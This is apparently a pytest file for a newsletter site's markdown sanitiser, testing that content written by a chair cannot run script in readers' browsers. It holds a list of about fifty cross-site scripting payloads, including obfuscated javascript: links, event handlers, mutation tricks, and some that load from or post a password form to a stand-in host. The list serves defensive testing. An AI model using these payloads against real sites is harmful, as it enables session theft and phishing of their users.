"""The sanitiser: nothing the chair writes can run script in a reader's browser."""

import re
from html.parser import HTMLParser

import pytest

from newsletters.markdown import render_markdown

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="&#0;javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "![img](javascript:alert(1))",
    '![img](x" onerror="alert(1))',
    "[ref][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;top:0">overlay</div>',
    "<style>body{display:none}</style>",
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    '<a href="https://ok.example/" onclick="alert(1)" onmouseover="alert(2)">hover</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="ja\u200bvascript:alert(1)">zero width</a>',
    "<a href='\u006a\u0061vascript:alert(1)'>unicode escapes</a>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<!--<img src=x onerror=alert(1)>-->",
    "**bold** <img src=x onerror=alert(1)//",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "Para {: onclick=alert(1) }",
    '<a href="vbscript:msgbox(1)">vb</a>',
]


EVENT_HANDLER = re.compile(r"<[^>]*\bon\w+\s*=")
DANGEROUS_URL = re.compile(r"^(javascript|vbscript|data|file):", re.IGNORECASE)


def as_browser_reads(url):
    """A URL as the WHATWG parser sees it: tabs and newlines removed, C0 and spaces trimmed."""
    return re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(0x21))))


class _Attributes(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.attributes = [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes.extend(attrs)


def parse(html):
    parser = _Attributes()
    parser.feed(html)
    return parser


def test_there_are_enough_payloads():
    assert len(XSS_PAYLOADS) >= 25


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_is_neutralised(payload):
    html = str(render_markdown(payload))
    lowered = html.lower()
    assert "<script" not in lowered
    # Inside a tag: "onerror=" left as escaped text (&lt;img ... onerror=) is inert.
    assert not EVENT_HANDLER.search(lowered)
    assert "javascript:" not in lowered
    assert "vbscript:" not in lowered
    assert "data:" not in lowered
    parsed = parse(html)
    assert not {
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "img",
        "svg",
        "math",
        "meta",
        "base",
        "link",
        "body",
        "details",
        "video",
    } & set(parsed.tags)
    for name, value in parsed.attributes:
        assert not name.startswith("on")
        assert name != "style"
        if name == "href":
            assert not DANGEROUS_URL.match(as_browser_reads(value or "")), value


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_is_neutralised_in_emails_too(payload):
    html = str(render_markdown(payload, base_url="https://portal.example.org")).lower()
    assert "<script" not in html
    assert not EVENT_HANDLER.search(html)
    assert "javascript:" not in html
    assert "data:" not in html


def test_ordinary_markdown_survives():
    html = str(
        render_markdown(
            "## Dates\n\nSome **bold** and *italic* text.\n\n- one\n- two\n\n"
            "1. first\n2. second\n\n"
            "> a quote\n\n`code`\n\n---\n\n| a | b |\n|---|---|\n| 1 | 2 |"
        )
    )
    for fragment in [
        "<strong>bold</strong>",
        "<em>italic</em>",
        "<ul>",
        "<ol>",
        "<li>one</li>",
        "<blockquote>",
        "<code>code</code>",
        "<hr>",
        "<table>",
        "<td>1</td>",
    ]:
        assert fragment in html


def test_body_headings_start_below_section_headings():
    html = str(render_markdown("# Top\n\n## Next"))
    assert "<h1" not in html and "<h2" not in html
    assert "<h3>Top</h3>" in html and "<h4>Next</h4>" in html


@pytest.mark.parametrize(
    "markdown, href",
    [
        ("[site](https://www.example.org/)", "https://www.example.org/"),
        ("[plain](http://iascmap.nottingham.ac.uk/)", "http://iascmap.nottingham.ac.uk/"),
        ("[mail](mailto:chair@example.org)", "mailto:chair@example.org"),
        ("[call](tel:+448000121700)", "tel:+448000121700"),
        ("<https://www.gov.uk/>", "https://www.gov.uk/"),
        ("[event](/events/meeting/)", "/events/meeting/"),
    ],
)
def test_safe_links_are_kept_with_noopener(markdown, href):
    html = str(render_markdown(markdown))
    assert f'href="{href}"' in html
    assert 'rel="noopener noreferrer"' in html


def test_rel_from_the_author_is_replaced():
    html = str(render_markdown('<a href="https://x.example/" rel="opener">x</a>'))
    assert 'rel="noopener noreferrer"' in html
    assert 'rel="opener"' not in html


def test_email_rendering_makes_relative_links_absolute():
    html = str(render_markdown("[event](/events/x/)", base_url="https://portal.example.org"))
    assert 'href="https://portal.example.org/events/x/"' in html


def test_rendering_is_cached_by_content(django_assert_num_queries):
    first = render_markdown("Cached *text*")
    assert render_markdown("Cached *text*") == first
    assert render_markdown("Other *text*") != first
